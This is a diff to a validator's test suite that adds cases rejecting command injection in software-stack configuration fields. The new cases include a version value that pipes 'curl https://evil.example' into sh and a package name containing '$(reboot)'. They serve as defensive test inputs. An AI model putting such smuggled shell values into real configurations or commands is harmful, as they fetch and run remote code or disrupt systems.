@@ -1460,6 +1460,36 @@ const INVALID: { title: string; text: string; diagnostics: Seen[] }[] = [
     ],
   },
   {
+    title: "a structured software version that would inject a shell command (issue 13, finding 5)",
+    text: doc(
+      "Name: Web",
+      "SoftwareStack:",
+      "  - name: nginx",
+      '    version: "1.2; curl https://evil.example | sh"',
+    ),
+    diagnostics: [
+      {
+        at: "4:14",
+        code: "invalid-software",
+        message:
+          "software 'nginx' has version \"1.2; curl https://evil.example | sh\", which is not a package version",
+        hint: "write 'latest' or a version such as '1.24': a digit, then letters, digits and . + ~ _ - * (at most 64 characters)",
+      },
+    ],
+  },
+  {
+    title: "a structured software name with shell syntax",
+    text: doc("Name: Web", "SoftwareStack:", '  - name: "nginx$(reboot)"'),
+    diagnostics: [
+      {
+        at: "3:11",
+        code: "invalid-software",
+        message: 'software name "nginx$(reboot)" is not a package name',
+        hint: "write words of letters, digits and . + _ -, e.g. 'name: Nginx' or 'name: Prometheus Node Exporter'",
+      },
+    ],
+  },
+  {
     title: "a response name without letters or digits",
     text: doc("Name: Web", "AutomatedResponses:", '  - Name: "!!!"', "    Action: Notify ops-team"),
     diagnostics: [
